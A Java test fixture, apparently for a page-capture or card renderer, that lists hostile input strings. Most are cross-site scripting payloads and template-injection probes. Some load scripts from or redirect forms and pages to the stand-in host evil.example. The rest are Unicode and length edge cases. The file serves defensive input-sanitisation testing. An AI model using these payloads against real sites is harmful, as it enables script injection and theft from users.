package opsis.capture.card;

import java.util.List;

/** Texts by which pages have been broken into or broken. */
final class HostileTexts {
  private HostileTexts() {}

  static List<String> all() {
    return List.of(
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
        "</span><script>alert(1)</script>", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</article></body></html><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "\" onload=\"alert(1)", "' onmouseover='alert(1)", "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>", "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">", "<base href=http://evil.example/>",
        "<link rel=stylesheet href=http://evil.example/>", "<style>*{display:none}</style>", "<object data=http://evil.example/>", "<form action=http://evil.example/><input name=x>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;amp;", "&", "<", ">", "\"", "'", "`", "${7*7}", "{{7*7}}", "<%= 7*7 %>",
        "javascript:alert(1)", "https://evil.example/\"><script>alert(1)</script>", "#<script>", "@<b>", "@\" onclick=\"x", "\u0000<script>", "<\u0000script>",
        "\u202Etxet desrever", "\u2028\u2029", "\uFEFF", "\uD800", "\uDC00x", "e\u0301\u0301\u0301\u0301".repeat(50), "a".repeat(5000), "\n".repeat(500), "\t\t\t",
        "👩‍👩‍👧‍👦🏳️‍🌈", "مرحبا بالعالم", "ﷺ".repeat(200), "<span data-opsis=\"word\" data-index=\"0\">x</span>");
  }
}
